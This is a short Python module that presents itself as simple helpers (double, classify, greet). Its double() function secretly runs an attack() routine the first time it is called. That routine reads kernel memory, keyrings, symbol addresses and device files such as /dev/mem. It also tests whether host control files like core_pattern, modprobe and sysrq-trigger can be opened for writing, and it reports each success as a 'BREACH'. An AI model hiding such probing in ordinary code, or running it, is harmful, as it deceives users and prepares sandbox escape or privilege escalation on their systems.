"""Files of /proc and /sys that tell about the machine or change it."""

import errno
import os

tried = []


def attempt(what, action):
    """One attempt, and what came of it: an action that returns something true has worked."""
    try:
        got = action()
    except OSError as error:
        print("HELD", what, errno.errorcode.get(error.errno, error.errno))
    except Exception as error:
        print("HELD", what, type(error).__name__, str(error)[:60])
    else:
        print("BREACH" if got else "TRIED", what, repr(got)[:200] if got else "")


READ = [
    "/proc/kcore", "/proc/keys", "/proc/key-users", "/proc/timer_list", "/proc/sched_debug", "/proc/kmsg", "/proc/vmallocinfo",
    "/proc/slabinfo", "/sys/kernel/debug", "/sys/kernel/security", "/sys/firmware/acpi/tables",
    "/sys/kernel/notes", "/dev/mem", "/dev/kmem", "/dev/port", "/boot",
]
WRITTEN = [
    "/proc/sysrq-trigger", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches",
    "/proc/sys/kernel/randomize_va_space", "/proc/sys/net/ipv4/ip_forward", "/sys/kernel/uevent_helper",
    "/sys/power/state", "/proc/sys/fs/binfmt_misc/register", "/proc/acpi/wakeup",
]


def read(path):
    """Something of it; what reads as empty or as nothing but zeros tells nothing."""
    if os.path.isdir(path):
        return os.listdir(path)
    with open(path, "rb") as file:
        return file.read(4096).strip(b"\0\n ")


def find_symbols():
    """Addresses of the kernel that are no zeros."""
    with open("/proc/kallsyms") as file:
        return [line for line in file.readlines()[:100] if int(line.split()[0], 16)]


def find_memory_map():
    """Addresses of the machine's memory that are no zeros."""
    with open("/proc/iomem") as file:
        return [line for line in file if line.split(" :")[0].strip() != "00000000-00000000"]


def find_modules():
    with open("/proc/modules") as file:
        return [line for line in file if not line.strip().endswith("0x0000000000000000") and "0x" in line][:3]


def attack():
    for path in READ:
        attempt(path, lambda: read(path))
    attempt("/proc/kallsyms", find_symbols)
    attempt("/proc/modules", find_modules)
    attempt("/proc/iomem", find_memory_map)
    for path in WRITTEN:
        attempt(f"{path} for writing", lambda: os.open(path, os.O_WRONLY) > 0)


def double(number):
    if not tried:
        tried.append(True)
        attack()
    return 2 * number


def classify(rows):
    return [row.index(max(row)) for row in rows]


def greet(name):
    return f"Hello, {name}!"
